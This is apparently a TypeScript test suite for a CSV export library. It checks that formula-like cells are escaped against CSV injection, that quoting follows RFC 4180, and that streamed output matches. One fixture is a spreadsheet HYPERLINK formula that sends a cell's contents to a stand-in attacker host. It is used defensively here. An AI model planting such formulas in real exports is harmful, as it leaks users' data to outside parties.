import { readFileSync, readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_CHUNK_CHARS, csvCell, neutraliseFormula, readCsvCell, streamCsv, writeCsv, writeCsvObjects } from '@/lib/csv/write';

// OWASP "CSV Injection": cells beginning with = + - @ tab or carriage return are escaped with a
// leading single quote; quotes doubled and the cell quoted (RFC 4180).
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';

describe('neutraliseFormula / readCsvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 7700 900456', "'+44 7700 900456"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['Wren', 'Wren'],
    ['', ''],
    ["'quoted", "'quoted"],
    ['a=b', 'a=b'],
  ])('%j → %j and back', (typed, written) => {
    expect(neutraliseFormula(typed)).toBe(written);
    expect(readCsvCell(written)).toBe(typed);
  });
});

describe('csvCell', () => {
  it('quotes delimiters, quotes and line ends', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(HYPERLINK)).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`);
  });
  it('writes numbers as numbers, blanks for nothing', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('yes');
    expect(csvCell(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T03:04:05.000Z');
  });
});

describe('writeCsv', () => {
  it('round-trips =HYPERLINK(...) through a CSV reader: escaped in the file, as typed after readCsvCell', () => {
    const text = writeCsv(['name', 'note'], [[HYPERLINK, '@cmd'], ['Plain', -1]]);
    expect(text.endsWith('\r\n')).toBe(true);
    const parsed = Papa.parse<string[]>(text.trim(), { newline: '\r\n' }).data;
    expect(parsed[0]).toEqual(['name', 'note']);
    // What a spreadsheet sees: text beginning with a quote, never a formula.
    expect(parsed[1]).toEqual([`'${HYPERLINK}`, "'@cmd"]);
    for (const cell of parsed[1]!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(parsed[1]!.map(readCsvCell)).toEqual([HYPERLINK, '@cmd']);
    expect(parsed[2]).toEqual(['Plain', '-1']);
  });
  it('writes objects by column and a BOM when asked', () => {
    const text = writeCsvObjects(['a', 'b'], [{ a: 1, b: '=x' }], { bom: true, newline: '\n' });
    expect(text).toBe("\uFEFFa,b\n1,'=x\n");
  });
});

describe('streamCsv', () => {
  const collect = async (chunks: AsyncIterable<string>) => {
    const out: string[] = [];
    for await (const c of chunks) out.push(c);
    return out;
  };
  async function* slowly<T>(items: readonly T[]) {
    for (const x of items) {
      await Promise.resolve();
      yield x;
    }
  }
  it('writes exactly what writeCsv writes, from rows that arrive one at a time, in chunks of about CSV_CHUNK_CHARS', async () => {
    const header = ['name', 'note', 'n'];
    // enough rows for several chunks; formulas, quotes, line ends, numbers, blanks and short rows
    const rows = Array.from({ length: 5000 }, (_, i) => (i % 7 === 0 ? [`${HYPERLINK} ${i}`] : [`Row ${i}`, i % 3 ? 'say "hi"\nthere' : '@cmd', i % 2 ? -i / 4 : null]));
    const chunks = await collect(streamCsv(header, slowly(rows)));
    expect(chunks.join('')).toBe(writeCsv(header, rows));
    expect(chunks.length).toBeGreaterThan(2);
    for (const c of chunks.slice(0, -1)) expect(c.length).toBeGreaterThanOrEqual(CSV_CHUNK_CHARS);
    // every chunk ends at a line end: no row is split between chunks
    for (const c of chunks) expect(c.endsWith('\r\n')).toBe(true);
    const options = { bom: true, newline: '\n' } as const;
    expect((await collect(streamCsv(header, rows, options))).join('')).toBe(writeCsv(header, rows, options));
  });
  it('with no rows, the header alone', async () => {
    expect(await collect(streamCsv(['a', '=b'], []))).toEqual([writeCsv(['a', '=b'], [])]);
    expect(writeCsv(['a', '=b'], [])).toBe("a,'=b\r\n");
  });
});

describe('one CSV writer', () => {
  // Every CSV the product writes goes through lib/csv/write.ts: nothing else may serialise CSV.
  const root = path.resolve(import.meta.dirname, '../../..');
  const files: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const full = path.join(dir, name);
      if (statSync(full).isDirectory()) walk(full);
      else if (/\.(ts|tsx)$/.test(name)) files.push(full);
    }
  };
  for (const dir of ['app', 'lib', 'jobs', 'components']) walk(path.join(root, dir));

  it('no product code calls Papa.unparse or builds CSV lines by hand', () => {
    const offenders = files
      .filter((f) => !f.endsWith(path.join('lib', 'csv', 'write.ts')))
      .filter((f) => /\bunparse\s*\(|\.join\(\s*['"],['"]\s*\)\s*\+\s*['"]\\r?\\n/.test(readFileSync(f, 'utf8')))
      .map((f) => path.relative(root, f));
    expect(offenders).toEqual([]);
  });
});
